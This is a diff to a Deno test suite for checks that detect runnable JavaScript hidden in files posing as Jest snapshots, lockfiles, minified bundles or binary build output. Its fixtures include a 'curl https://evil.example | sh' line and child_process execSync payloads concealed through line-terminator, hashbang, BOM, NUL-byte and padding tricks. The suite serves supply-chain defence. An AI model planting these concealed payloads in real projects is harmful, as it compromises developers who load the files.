@@ -1,5 +1,11 @@
 import assert from "node:assert/strict";
-import { type ContentCheck, contentMismatch, notMinified, notSnapshot } from "./content_checks.ts";
+import {
+  type ContentCheck,
+  contentMismatch,
+  notMinified,
+  notSnapshot,
+  parsesAsScript,
+} from "./content_checks.ts";
 
 const encode = (text: string) => new TextEncoder().encode(text);
 const check = (kind: ContentCheck, path: string, text: string | Uint8Array) =>
@@ -29,7 +35,7 @@ Deno.test("minified: readable code named .min.js is not minified; real minified 
   const oneLine = `require("child_process").exec("curl https://evil.example | sh"); // ${
     "x".repeat(80)
   }\n`;
-  assert.notEqual(notMinified(encode(oneLine)), null);
+  assert.notEqual(notMinified(oneLine), null);
   assert.match(String(await check("minified", "a.min.css", new Uint8Array([1, 0, 2]))), /binary/);
 });
 
@@ -200,4 +206,169 @@ Deno.test("a YAML or line-format lockfile that also parses as JavaScript is not 
   const v6 = "lockfileVersion: '6.0'\n\ndependencies:\n  left-pad:\n    specifier: ^1.3.0\n" +
     "    version: 1.3.0\n";
   assert.equal(await check("pnpm-lock", "pnpm-lock.yaml", v6), null);
+});
+
+/** A payload hidden behind a header comment: what a JavaScript line terminator lets run. */
+const SNAP_BODY = "\nexports[`a 1`] = `x`;\n";
+const HIDDEN = "require('child_process').execSync('id');";
+
+Deno.test("snapshot: a header comment ends at every JavaScript line terminator, and only // comments are headers", async () => {
+  const path = "src/__snapshots__/a.test.ts.snap";
+  // CR, LS and PS end a `//` comment in JavaScript: the code after them runs when Jest or
+  // require() loads the file
+  for (const end of ["\r", "\u2028", "\u2029"]) {
+    const forged = `// Jest Snapshot v1, https://goo.gl/fbAQLP${end}${HIDDEN}\n${SNAP_BODY}`;
+    assert.notEqual(notSnapshot(forged), null, JSON.stringify(end));
+    assert.notEqual(await check("snapshot", path, forged), null, JSON.stringify(end));
+  }
+  // a real header with CRLF, or blank lines made of CR, LS or PS, is still a snapshot file
+  assert.equal(notSnapshot(`// Jest Snapshot v1\r\n\r\nexports[\`a\`] = \`x\`;\r\n`), null);
+  assert.equal(notSnapshot(`// v1\u2028\u2029\rexports[\`a\`] = \`x\`;`), null);
+  // block, HTML-like and hashbang "comments" are no header: reviewed, whatever they hold
+  for (
+    const header of [
+      `/* Jest Snapshot v1 */`,
+      `/* v1 */ ${HIDDEN} /* */`,
+      `<!-- Jest Snapshot v1`,
+      `--> Jest Snapshot v1`,
+      `#!/usr/bin/env node`,
+      `// v1\n--> ${HIDDEN}`,
+    ]
+  ) {
+    assert.notEqual(notSnapshot(`${header}\n${SNAP_BODY}`), null, header);
+  }
+  // a CR in a double-quoted name ends no statement in our parse either
+  assert.notEqual(notSnapshot(`exports["a\r"] = \`x\`;\n`), null);
+  // a header comment longer than any buffer is still one comment, not code
+  assert.equal(notSnapshot(`// ${"x".repeat(10_000)}\n${SNAP_BODY}`), null);
+});
+
+/** A pnpm lockfile that is also JavaScript (labels, then a call). */
+const PNPM_SCRIPT = "lockfileVersion: 9\nimporters:\n  x:\n    dependencies:\n      foo:\n" +
+  "        specifier: require('child_process').execSync('id')\n";
+
+Deno.test("a lockfile is a script when Node would run it: after a hashbang or BOM, or as an ES module", async () => {
+  for (
+    const [prefix, name] of [
+      ["#!/usr/bin/env node\n", "hashbang"],
+      ["#!/usr/bin/env node\r", "hashbang ended by CR"],
+      ["#!/usr/bin/env node\u2028", "hashbang ended by LS"],
+      ["\uFEFF#!/usr/bin/env node\n", "BOM and hashbang"],
+      ["\uFEFF", "BOM"],
+    ]
+  ) {
+    if (prefix.endsWith("\n")) {
+      assert.match(
+        String(await check("pnpm-lock", "pnpm-lock.yaml", prefix + PNPM_SCRIPT)),
+        /also parses as JavaScript/,
+        name,
+      );
+    }
+    const forged = prefix + PNPM_SCRIPT;
+    assert.ok(parsesAsScript(forged), name);
+    // reviewed: as a script, or (a lone CR or U+2028 is no YAML line break) as no YAML at all
+    assert.notEqual(await check("pnpm-lock", "pnpm-lock.yaml", forged), null, name);
+  }
+  // a gradle.lockfile whose `#` comment is a hashbang, and whose lines are labels and assignments
+  const gradle = "#!/usr/bin/env node\ncom:y:process.env.NODE_OPTIONS=x\nempty=x\n";
+  assert.match(String(await check("gradle-lock", "gradle.lockfile", gradle)), /also parses/);
+  // top-level await and import declarations make Node run the file as an ES module
+  const awaited = "lockfileVersion: 9\nimporters:\n  x:\n    specifier: " +
+    "await import('child_process').then((m) => m.execSync('id'))\n";
+  assert.ok(parsesAsScript(awaited));
+  assert.match(String(await check("pnpm-lock", "pnpm-lock.yaml", awaited)), /also parses/);
+  assert.ok(parsesAsScript("import { execSync } from 'node:child_process';\nexecSync('id');\n"));
+  assert.ok(parsesAsScript("export const a = 1;\n"));
+  // real lockfiles with a comment first are still no script
+  assert.equal(
+    parsesAsScript('# yarn lockfile v1\n\nleft-pad@^1.3.0:\n  version "1.3.0"\n'),
+    false,
+  );
+  assert.equal(parsesAsScript("#!not really\n# yarn lockfile v1\n"), false);
+});
+
+/** Build output: readable code with a stray NUL in a comment (legal JavaScript). */
+const NUL_PAYLOAD = `/*\0*/${PAYLOAD}`;
+
+Deno.test("build output: binary means no text that runs — a stray NUL does not hide readable code", async () => {
+  const readable = /this file is readable/;
+  assert.match(String(await check("built", "dist/index.js", NUL_PAYLOAD)), readable);
+  assert.match(String(await check("built", "dist/index.JS", NUL_PAYLOAD)), readable);
+  assert.match(String(await check("built", "dist/app.mjs", `import "x";\0\n`)), readable);
+  // CSS and HTML run with a NUL in them (browsers read it as U+FFFD)
+  const css = "body {\n  background: url(https://evil.example/x.png);\n}\n/*\0*/\n";
+  assert.match(String(await check("built", "dist/site.css", css)), readable);
+  assert.match(
+    String(await check("built", "build/index.html", "<script>x()</script>\0\n")),
+    readable,
+  );
+  // a file of any other name that still parses as JavaScript (what require() would run)
+  assert.match(String(await check("built", "dist/payload.bin", NUL_PAYLOAD)), readable);
+  assert.match(String(await check("built", "dist/x.png", `"\0";${PAYLOAD}`)), readable);
+  // real binaries stay out
+  const png = new Uint8Array([137, 80, 78, 71, 13, 10, 26, 10, 0, 0, 0, 13, 73, 72, 68, 82]);
+  assert.equal(await check("built", "build/logo.png", png), null);
+  const wasm = new Uint8Array([0, 97, 115, 109, 1, 0, 0, 0]);
+  assert.equal(await check("built", "dist/app.wasm", wasm), null);
+  // under __snapshots__/ too
+  assert.match(
+    String(await check("snapshot", "src/__snapshots__/util.js", NUL_PAYLOAD)),
+    /only \.snap files and binary snapshots/,
+  );
+  assert.equal(await check("snapshot", "src/__snapshots__/a.png", png), null);
+  // a bun.lockb with its header that is also a script is no binary lockfile
+  const lockb = encode(
+    "#!/usr/bin/env bun\nvar bun,lockfile,format,v0;bun-lockfile-format-v0\n" +
+      `${PAYLOAD}//\0\n`,
+  );
+  assert.match(String(await check("bun-lock", "bun.lockb", lockb)), /not a binary bun lockfile/);
+});
+
+Deno.test("minified: readable lines beside one long line are not minified, however they are padded", async () => {
+  const long = `const blob = "${"A".repeat(4000)}";\n`;
+  const forgeries: [string, string][] = [
+    ["readable code and one long string line", PAYLOAD + long],
+    ["the long line first", long + PAYLOAD],
+    ["lines padded with blanks", PAYLOAD.split("\n").map((l) => l.padEnd(600)).join("\n")],
+    [
+      "lines padded with block comments",
+      PAYLOAD.split("\n").map((l) => `${l} /* ${"x".repeat(600)} */`).join("\n"),
+    ],
+    [
+      "lines padded with line comments",
+      PAYLOAD.split("\n").map((l) => `${l};// ${"x".repeat(600)}`).join("\n"),
+    ],
+    ["lines ended by CR", PAYLOAD.replaceAll("\n", "\r") + long],
+    ["lines ended by U+2028", PAYLOAD.replaceAll("\n", "\u2028") + long],
+    ["a banner comment ended by CR", `// license\r${PAYLOAD.replaceAll("\n", "\r")}\n${long}`],
+  ];
+  for (const [name, text] of forgeries) {
+    assert.match(String(await check("minified", "src/util.min.js", text)), /does not look/, name);
+    assert.match(String(await check("built", "dist/util.js", text)), /is readable/, name);
+  }
+  // real shapes stay out: esbuild (one line and a source map comment), terser with a license
+  // banner, a bundle wrapped at a line length with a short tail, minified CSS with its banner
+  const code = Array.from({ length: 80 }, (_, i) => `function f${i}(t){return t+${i}}`).join(";");
+  const real: [string, string][] = [
+    ["app.min.js", MINIFIED],
+    [
+      "vendor.min.js",
+      `/*! For license information please see vendor.min.js.LICENSE.txt */\n${code}\n`,
+    ],
+    [
+      "lib.min.js",
+      `/**\n * @license MIT\n * (c) 2024 Someone\n */\n"use strict";\n${code};\n${code};\n` +
+      "module.exports=f0;\n//# sourceMappingURL=lib.min.js.map\n",
+    ],
+    [
+      "bootstrap.min.css",
+      "/*!\n * Bootstrap v5.3.0 (https://getbootstrap.com/)\n * Licensed under MIT\n */" +
+      `:root{${Array.from({ length: 60 }, (_, i) => `--bs-c${i}:#${i}${i}${i}`).join(";")}}` +
+      "\n/*# sourceMappingURL=bootstrap.min.css.map */\n",
+    ],
+  ];
+  for (const [name, text] of real) {
+    assert.equal(await check("minified", `web/${name}`, text), null, name);
+    assert.equal(await check("built", `dist/${name}`, text), null, name);
+  }
 });
